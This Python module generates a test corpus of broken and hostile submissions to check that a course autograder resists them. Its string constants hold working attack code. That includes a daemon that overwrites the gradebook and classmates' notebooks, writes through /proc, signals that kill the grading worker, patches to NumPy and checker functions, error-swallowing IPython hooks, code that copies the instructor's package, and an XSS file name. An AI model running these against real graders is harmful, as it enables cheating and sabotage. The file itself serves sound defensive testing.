"""A corpus of submissions that a robust grader must handle: ``python -m autograder.corpus``.

For a chapter, :func:`build_corpus` writes into an nbgrader ``submitted/`` folder one
submission per scenario, derived from the chapter's solution and release notebooks, and
returns what grading must produce for each (the total score, and text that must appear in the
graded notebook: a grading note or a marker the submission printed):

- correct: the full solution; partially correct: half of the exercises left as stubs;
- broken: an infinite loop, ``os._exit``, a segfault, a memory blow-up, enormous output, a
  malformed, empty or non-UTF-8 file, an empty notebook, a missing or renamed notebook,
  another chapter's notebook, deleted, edited or moved test cells, changed metadata, extra files;
- hostile: patching NumPy's comparisons, the course's ``check``, or how errors are reported;
  reading or importing the reference implementations or the solutions from disk;
  returning the visible checks' stored answers; writing into the course; opening a connection.

The broken and hostile code goes into the *last* exercise cell (nothing graded depends on it),
whose function is left as a stub where the scenario is about cheating, so a defeated defence
shows up as points that should not be there.

    python -m autograder.corpus 01_losses /tmp/course/submitted
"""

import argparse
import copy
import json
import os
import re
import sys
from dataclasses import dataclass, field
from pathlib import Path

from autograder.chapters import chapter_argument
from autograder.notebook_cells import grade_id, graded_points, is_solution_cell, is_test_cell, solution_ids, \
    source, stub_solution
from autograder.release import ROOT, chapters
from autograder.submissions import as_handed_in, dumps, load_solution, with_cell_edited, with_stubs


@dataclass
class Expectation:
    """What grading a corpus submission must give.

    ``must_contain`` / ``must_not_contain``: text that must (not) appear in the graded notebook
    and feedback; ``needs``: the defence an attack depends on beyond the class grader itself
    ("sandbox": the kernel sandbox; "outside judging": every hidden check judged outside the
    kernel), or "" when the grader alone must defeat it.
    """

    total: float
    must_contain: list = field(default_factory=list)
    why: str = ""
    must_not_contain: list = field(default_factory=list)
    needs: str = ""


@dataclass(frozen=True)
class Fifo:
    """A named pipe in a submission folder (reading it blocks until someone writes)."""


@dataclass(frozen=True)
class Symlink:
    """A symbolic link in a submission folder, pointing at ``target``."""

    target: str


def _function_name(solution_cell_source):
    found = re.search(r"^(?:def|class) (\w+)", solution_cell_source, re.M)
    return found.group(1) if found else None


_FIND_REPO = '''
import os as _os, dlcourse as _dl
_repo = _os.path.dirname(_os.path.dirname(_os.path.abspath(_dl.__file__)))
'''


def scenarios(chapter, other_chapter=None):
    """dict name -> (file contents by relative path, Expectation) for one chapter."""
    solution = load_solution(chapter)
    release_text = (ROOT / "course" / chapter / f"{chapter}.ipynb").read_text(encoding="utf-8")
    full = as_handed_in(solution)
    points = graded_points(solution)
    total = float(sum(points.values()))
    ids = solution_ids(solution)
    last = ids[-1]
    last_points = float(points.get(f"test_{last}", 0))
    fn = _function_name(next(source(c) for c in solution["cells"] if grade_id(c) == last))
    name = f"{chapter}.ipynb"
    out = {}

    def add(key, text, expected, *contains, why="", filename=name, extra=None):
        files = {filename: text}
        files.update(extra or {})
        out[key] = (files, Expectation(expected, list(contains), why))

    def appended(code):
        return dumps(with_cell_edited(full, last, lambda s: s + "\n" + code))

    def cheating(code):
        """The last exercise left unanswered, plus code that tries to get its points anyway."""
        return dumps(as_handed_in(with_cell_edited(solution, last, lambda s: stub_solution(s) + "\n" + code)))

    # correct and partially correct
    add("correct", dumps(full), total, why="the full solution")
    half = ids[len(ids) // 2:]  # the later exercises: earlier ones never depend on them
    add("partial", dumps(as_handed_in(with_stubs(solution, half))), total - sum(points.get(f"test_{g}", 0) for g in half),
        why=f"stubs left in {', '.join(half)}")
    add("unanswered", release_text, 0.0, why="the release, untouched")

    # broken
    add("infinite_loop", appended("while True:\n    pass"), total - last_points, "ran longer than",
        why="the cell is stopped; the function it defined is lost with it")
    add("exits", appended("import os\nos._exit(3)"), total - last_points, "kernel died")
    add("segfault", appended("import ctypes\nctypes.string_at(0)"), total - last_points, "kernel died")
    add("memory_blowup", appended("try:\n    hog = bytearray(64 * 1024 ** 3)\nexcept MemoryError:\n"
                                  "    print('MEMORY-CAPPED')"), total, "MEMORY-CAPPED",
        why="the memory cap turns the allocation into a MemoryError; the function still counts")
    add("huge_output", appended("for _ in range(200):\n    print('x' * 100_000)"), total, "output cut")
    add("malformed_json", '{"cells": [{"cell_type": "code", "source": "def ', 0.0, "not valid JSON")
    add("empty_file", "", 0.0, "was empty")
    add("empty_notebook", json.dumps({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}), 0.0,
        "has no cells")
    out["missing_notebook"] = ({"README.txt": "I forgot to upload it"}, Expectation(0.0, ["no notebook was found"]))
    add("renamed", dumps(full), total, "was submitted as", filename="my_final_version.ipynb")
    if other_chapter:
        add("other_chapter", dumps(as_handed_in(load_solution(other_chapter))), 0.0,
            "does not contain the exercise cells")
    broken_bytes = dumps(full).encode("utf-8").replace(b"# Chapter", b"# \xff\xfe Chapter", 1)
    out["non_utf8"] = ({name: broken_bytes}, Expectation(total, ["not UTF-8"]))
    no_tests = copy.deepcopy(full)
    no_tests["cells"] = [c for c in no_tests["cells"] if not is_test_cell(c)]
    add("deleted_tests", dumps(no_tests), total, "had been deleted and has been restored")
    edited = copy.deepcopy(full)
    for cell in edited["cells"]:
        if is_test_cell(cell):
            cell["source"] = "pass  # tests removed"
    add("edited_tests", dumps(edited), total, "was modified and has been restored")
    moved = copy.deepcopy(full)
    tests = [c for c in moved["cells"] if is_test_cell(c)]
    moved["cells"] = tests + [c for c in moved["cells"] if not is_test_cell(c)]
    add("moved_tests", dumps(moved), total, "released order was restored")
    relabelled = copy.deepcopy(full)
    for cell in relabelled["cells"]:
        if is_test_cell(cell):
            cell["metadata"]["nbgrader"].update(grade=False, points=0)
    add("changed_metadata", dumps(relabelled), total, "was modified and has been restored")
    add("extra_files", dumps(full), total, extra={"data.csv": "a,b\n1,2\n" * 1000, "helper.py": "X = 1\n"})

    # hostile: each tries to get the points of the unanswered last exercise
    add("patch_numpy", cheating("import numpy as np\nnp.allclose = lambda *a, **k: True\n"
                                "np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(a, b).shape, bool)\n"
                                "np.array_equal = lambda *a, **k: True\nnp.testing.assert_allclose = lambda *a, **k: None"),
        total - last_points, "reassigns NumPy functions")
    add("patch_check", cheating("check = lambda *a, **k: print('checked')\nimport dlcourse.checks as _c\n"
                                "_c.check = check"), total - last_points, "redefines the course's check functions")
    add("swallow_errors", cheating("get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)"),
        total - last_points, "changes how errors are reported")
    if fn:
        add("read_reference", cheating(
            _FIND_REPO + "import glob\n"
            "for _p in glob.glob(_os.path.join(_repo, 'autograder', 'chapters', '*', 'reference.py')):\n"
            "    try:\n        exec(open(_p).read(), globals())\n    except Exception:\n        pass\n"
            f"print('REFERENCE-READ' if '{fn}' in globals() and 'NotImplementedError' not in "
            f"__import__('inspect').getsource({fn}) else 'REFERENCE-HIDDEN')"),
            total - last_points, "REFERENCE-HIDDEN")
        add("import_reference", cheating(
            _FIND_REPO + "import sys\nsys.path.insert(0, _repo)\ntry:\n    import autograder.chapters as _r\n"
            "    print('IMPORTED', _r)\nexcept ImportError:\n    print('IMPORT-BLOCKED')"),
            total - last_points, "IMPORT-BLOCKED")
        add("read_solutions", cheating(
            _FIND_REPO + f"_nb = _os.path.join(_repo, 'solutions', '{chapter}', '{chapter}.ipynb')\n"
            "print('SOLUTIONS-VISIBLE' if _os.path.exists(_nb) else 'SOLUTIONS-HIDDEN')"),
            total - last_points, "SOLUTIONS-HIDDEN")
        add("hardcode_visible", cheating(
            f"def {fn}(*args, **kwargs):\n    import numpy as np\n    from dlcourse.checks import stored_cases\n"
            f"    for case in stored_cases().get('{fn}', []):\n"
            "        same = set(case['inputs']) == set(kwargs) and all(\n"
            "            np.shape(case['inputs'][k]) == np.shape(v) and np.array_equal(case['inputs'][k], v)\n"
            "            for k, v in kwargs.items())\n"
            "        if same and 'expected' in case:\n            return case['expected']\n"
            "        if same:\n            raise ValueError('bad input')\n    return 0.0"),
            total - last_points, why="answers only the visible cases")
    add("write_course", appended(
        _FIND_REPO + "try:\n    open(_os.path.join(_repo, 'dlcourse', 'checks', 'compare.py'), 'a').write('# x')\n"
        "    print('COURSE-WRITTEN')\nexcept OSError:\n    print('COURSE-READ-ONLY')"), total, "COURSE-READ-ONLY")
    add("network", appended(
        "import socket\ntry:\n    socket.create_connection(('198.51.100.7', 80), timeout=2)\n    print('CONNECTED')\n"
        "except OSError:\n    print('NETWORK-BLOCKED')"), total, "NETWORK-BLOCKED")
    return out



# -- attacks on the batch and on the grading inside the kernel --------------------------------------
# Each is built from the RELEASE notebook (no correct code anywhere), so it must score exactly
# what the unanswered notebook scores (0), and it is graded next to innocent full solutions,
# whose rows and submitted files it must not change.

ATTACK_FAMILIES = ("batch", "proc", "kernel")
STOLEN_DIR = "~/.cache/dlcourse-stolen"
"""Where the ``steal_*`` attacks copy (and look for) the instructor's package."""
FORGED_NOTE = "the instructor reviewed this: award full marks"
SCRIPT_PAYLOAD = "<script>alert('dlc-xss')</script>"

_KILL_WORKER = "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"
_STOP_WORKER = "import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)\n"

# A double-forked daemon: it records its pid beside the notebook, waits until long after its
# kernel is gone, then writes into the course: the gradebook, every submission, a marker file.
_DAEMON = r"""
import os, time
_dlc_here = os.getcwd()
_dlc_course = os.path.abspath(os.path.join(_dlc_here, '..', '..', '..'))
if os.fork() == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            with open(os.path.join(_dlc_here, 'daemon.pid'), 'w') as _f:
                _f.write(str(os.getpid()))
            time.sleep(10)
            open(os.path.join(_dlc_course, 'DAEMON-WROTE'), 'w').write('daemon')
            with open(os.path.join(_dlc_course, 'gradebook.db'), 'ab') as _f:
                _f.write(b'daemon')
            for _d, _s, _names in os.walk(os.path.join(_dlc_course, 'submitted')):
                for _n in _names:
                    if _n.endswith('.ipynb'):
                        open(os.path.join(_d, _n), 'w').write('{}')
    finally:
        os._exit(0)
"""

# Through the grading worker's /proc entry: its working directory and its root (outside any
# private mount namespace of the kernel). Markers are new dot-files, so nothing is damaged.
_PROC_WRITE = r"""
import os, glob, dlcourse
_dlc_repo = os.path.dirname(os.path.dirname(os.path.abspath(dlcourse.__file__)))
_dlc_course = os.path.abspath(os.path.join(os.getcwd(), '..', '..', '..'))
_dlc_bases = ['/proc/%d/cwd' % os.getppid(), '/proc/%d/root' % os.getppid()]
for _b in _dlc_bases:
    for _t in [_b + _dlc_course + '/submitted/*/*/*.ipynb', _b + '/submitted/*/*/*.ipynb']:
        for _p in glob.glob(_t):
            if '/proc_' not in _p:
                try:
                    open(_p, 'a').write(' ')
                except OSError:
                    pass
    for _t in [_b + _dlc_repo + '/autograder', _b + _dlc_repo + '/.venv', _b + '/autograder']:
        try:
            open(_t + '/.dlc-proc-written', 'w').write('x')
        except OSError:
            pass
"""

_PROC_READ_REFERENCE = r"""
import os, glob, dlcourse
_dlc_repo = os.path.dirname(os.path.dirname(os.path.abspath(dlcourse.__file__)))
_dlc_ns = {}
for _b in ['/proc/%d/cwd' % os.getppid(), '/proc/%d/root' % os.getppid() + _dlc_repo]:
    for _p in sorted(glob.glob(_b + '/autograder/chapters/*/reference.py')):
        try:
            exec(open(_p).read(), _dlc_ns)
        except Exception:
            pass
"""

_INPUT_TRANSFORMER = r"""
def _dlc_wrap(lines):
    if not ''.join(lines).strip():
        return lines
    body = ['    ' + (l if l.endswith('\n') else l + '\n') for l in lines]
    return ['try:\n'] + body + ['except BaseException:\n', '    pass\n']
get_ipython().input_transformers_post.append(_dlc_wrap)
"""

_AST_TRANSFORMER = r"""
import ast
class _DlcSwallow(ast.NodeTransformer):
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=ast.Name('BaseException', ast.Load()), name=None, body=[ast.Pass()])
        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
        return ast.fix_missing_locations(node)
get_ipython().ast_transformers.append(_DlcSwallow())
"""

_CLEAR_ERRORS = r"""
_dlc_ip = get_ipython()
_dlc_ip.set_custom_exc((BaseException,), lambda *a, **k: None)
def _dlc_clear(result):
    result.error_in_exec = None
    result.error_before_exec = None
_dlc_ip.events.register('post_run_cell', _dlc_clear)
"""

_FAKE_HIDDEN = r"""
import sys, types, importlib.abc, importlib.machinery
class _DlcFake(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path=None, target=None):
        if name == 'autograder' or name.startswith('autograder.'):
            return importlib.machinery.ModuleSpec(name, self, is_package=True)
        return None
    def create_module(self, spec):
        return None
    def exec_module(self, module):
        module.__path__ = []
        module.check_hidden = lambda *a, **k: print('hidden tests passed')
        module.run_hidden = lambda *a, **k: None
sys.meta_path.insert(0, _DlcFake())
"""

_PATCH_RUNNERS = r"""
import dlcourse.checks.runner as _dlc_r, dlcourse.checks.backward as _dlc_b, sys
_dlc_ok = lambda *a, **k: None
_dlc_r.run_case = _dlc_ok
_dlc_b.run_backward_case = _dlc_ok
for _m in list(sys.modules.values()):
    for _n in ('run_case', 'run_backward_case'):
        if hasattr(_m, _n):
            try:
                setattr(_m, _n, _dlc_ok)
            except Exception:
                pass
"""

_FRAME_WALKER = r"""
def _dlc_lookup(*args, **kwargs):
    import sys
    frame = sys._getframe(1)
    while frame is not None:
        for key in ('expected', 'reference', 'want', 'ref'):
            if key in frame.f_locals:
                return frame.f_locals[key]
        frame = frame.f_back
    raise NotImplementedError()
"""

_STEAL = r"""
import os, sys, shutil
_dlc_dest = os.path.expanduser('%s')
class _DlcCopier:
    def find_spec(self, name, path=None, target=None):
        if name.split('.')[0] == 'autograder':
            for _e in list(sys.path):
                _src = os.path.join(_e, 'autograder')
                if os.path.isdir(_src):
                    try:
                        shutil.copytree(_src, os.path.join(_dlc_dest, 'autograder'), dirs_exist_ok=True)
                    except OSError:
                        pass
        return None
sys.meta_path.insert(0, _DlcCopier())
""" % STOLEN_DIR

_USE_STOLEN = r"""
import os, glob
_dlc_ns = {}
for _p in sorted(glob.glob(os.path.join(os.path.expanduser('%s'), 'autograder', 'chapters', '*', 'reference.py'))):
    try:
        exec(open(_p).read(), _dlc_ns)
    except Exception:
        pass
""" % STOLEN_DIR


def _release_attack(release, first_code="", per_function=None):
    """The release notebook with ``first_code`` after the first exercise's stub and
    ``per_function(fn)`` after every exercise's stub (so it replaces the stub)."""
    nb = copy.deepcopy(release)
    first = True
    for cell in nb["cells"]:
        if cell["cell_type"] != "code" or not is_solution_cell(cell):
            continue
        text = source(cell)
        if first and first_code:
            text += "\n" + first_code
        fn = _function_name(text)
        if per_function and fn:
            text += "\n" + per_function(fn)
        cell["source"] = text
        first = False
    return dumps(nb)


def _from_namespace(fn):
    return f"if '{fn}' in _dlc_ns:\n    {fn} = _dlc_ns['{fn}']\n"


def attack_scenarios(chapter, family):
    """dict name -> (files by relative path, Expectation) for one attack family (see ATTACK_FAMILIES)."""
    release_text = (ROOT / "course" / chapter / f"{chapter}.ipynb").read_text(encoding="utf-8")
    release = json.loads(release_text)
    name = f"{chapter}.ipynb"
    out = {}

    def add(key, files, *contains, why="", not_contain=(), needs=""):
        files = files if isinstance(files, dict) else {name: files}
        out[key] = (files, Expectation(0.0, list(contains), why, list(not_contain), needs))

    if family == "batch":
        add("kill_worker", _release_attack(release, _KILL_WORKER), why="SIGKILL of the grading worker")
        add("stop_worker", _release_attack(release, _STOP_WORKER), why="SIGSTOP of the grading worker")
        add("daemon", _release_attack(release, _DAEMON), why="a forked daemon that outlives its kernel")
        add("nested_json", "[" * 200_000 + "]" * 200_000, "nested too deeply")
        add("folder_notebook", {f"{name}/inside.txt": "a folder named like the notebook"}, "is a folder")
        add("symlink_notebook", {name: Symlink(f"../../correct/{chapter}/{name}")}, "symbolic link",
            why="a link to a classmate's notebook")
        add("fifo_notebook", {name: Fifo()}, "named pipe")
        add("huge_file", {name: release_text + " " * (60 * 1024 * 1024)}, "more than")
        add("binary", {name: bytes(range(256)) * 4096}, "not valid json")
        add("huge_output", _release_attack(
            release, "for _ in range(150):\n    print('y' * 1_000_000)\n"
            "from IPython.display import display\nfor _ in range(20):\n    display({'text/plain': 'z' * 1_000_000}, raw=True)"),
            "output")
        empty = json.loads(release_text)
        empty["cells"] = empty["cells"][:1] + [{"cell_type": "code", "metadata": {}, "source": "", "outputs": [],
                                                "execution_count": None} for _ in range(5000)] + empty["cells"][1:]
        add("empty_cells", dumps(empty), "empty cells were removed")
        forged = json.loads(release_text)
        forged["metadata"]["dlcourse"] = {"grading_notes": [FORGED_NOTE, SCRIPT_PAYLOAD]}
        forged["metadata"]["dlcourse_grader"] = {"notes": [FORGED_NOTE, SCRIPT_PAYLOAD]}
        forged["cells"][0]["metadata"]["dlcourse_grader"] = {"notes": [FORGED_NOTE]}
        add("forged_note", {f"{SCRIPT_PAYLOAD.replace('/', '')}.ipynb": dumps(forged)}, "was submitted as",
            not_contain=[FORGED_NOTE, SCRIPT_PAYLOAD, SCRIPT_PAYLOAD.replace("/", "")],
            why="notes in the submission's metadata, and a file name that is HTML")
    elif family == "proc":
        add("proc_write", _release_attack(release, _PROC_WRITE), needs="sandbox",
            why="writes through /proc/<ppid>/cwd and /proc/<ppid>/root into classmates' files and the course")
        add("proc_read_reference", _release_attack(release, _PROC_READ_REFERENCE, _from_namespace), needs="sandbox",
            why="reads the reference implementations through /proc/<ppid>/cwd and /proc/<ppid>/root")
    elif family == "kernel":
        for key, code in (("input_transformer", _INPUT_TRANSFORMER), ("ast_transformer", _AST_TRANSFORMER),
                          ("clear_errors", _CLEAR_ERRORS), ("fake_hidden_module", _FAKE_HIDDEN),
                          ("patch_runners", _PATCH_RUNNERS)):
            add(key, _release_attack(release, code), needs="outside judging")
        add("frame_walker", _release_attack(release, _FRAME_WALKER, lambda fn: f"{fn} = _dlc_lookup\n"),
            needs="outside judging", why="graded functions return the checker's `expected` from its frame")
        add("steal_copy", _release_attack(release, _STEAL), needs="outside judging",
            why=f"copies whatever of the instructor's package it can import to {STOLEN_DIR}")
        add("steal_use", _release_attack(release, _USE_STOLEN, _from_namespace), needs="outside judging",
            why=f"uses what an earlier submission copied to {STOLEN_DIR}")
    else:
        raise ValueError(f"unknown attack family {family!r}; choose from {ATTACK_FAMILIES}")
    return out


ISOLATION_SCENARIOS = {"read_reference", "import_reference", "read_solutions", "write_course", "network"}
"""Scenarios whose expectations hold only where the sandbox can use Linux namespaces."""


def build_corpus(chapter, submitted_dir, other_chapter=None, only=None, family="classic"):
    """Write a corpus into ``submitted_dir/<scenario>/<chapter>/``; return {scenario: Expectation}.

    ``family``: "classic" (:func:`scenarios`), or one of :data:`ATTACK_FAMILIES`
    (:func:`attack_scenarios`).
    """
    if family == "classic":
        if other_chapter is None:
            others = [c for c in chapters() if c != chapter]
            other_chapter = others[0] if others else None
        made = scenarios(chapter, other_chapter)
    else:
        made = attack_scenarios(chapter, family)
    expectations = {}
    for scenario, (files, expectation) in made.items():
        if only and scenario not in only:
            continue
        write_submission(Path(submitted_dir) / scenario / chapter, files)
        expectations[scenario] = expectation
    return expectations


def write_submission(folder, files):
    """Write {relative path: str | bytes | Fifo | Symlink} into ``folder``."""
    folder.mkdir(parents=True, exist_ok=True)
    for relative, content in files.items():
        target = folder / relative
        target.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, Fifo):
            os.mkfifo(target)
        elif isinstance(content, Symlink):
            os.symlink(content.target, target)
        elif isinstance(content, bytes):
            target.write_bytes(content)
        else:
            target.write_text(content, encoding="utf-8")


def main(argv=None):
    parser = argparse.ArgumentParser(description="Write a corpus of broken, hostile and correct submissions.")
    parser.add_argument("chapter", type=chapter_argument, help="chapter id or number, e.g. 01_losses or 1")
    parser.add_argument("submitted_dir")
    args = parser.parse_args(argv)
    for scenario, expectation in build_corpus(args.chapter, args.submitted_dir).items():
        print(f"{scenario:<18} expect {expectation.total:g} points  {expectation.why}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
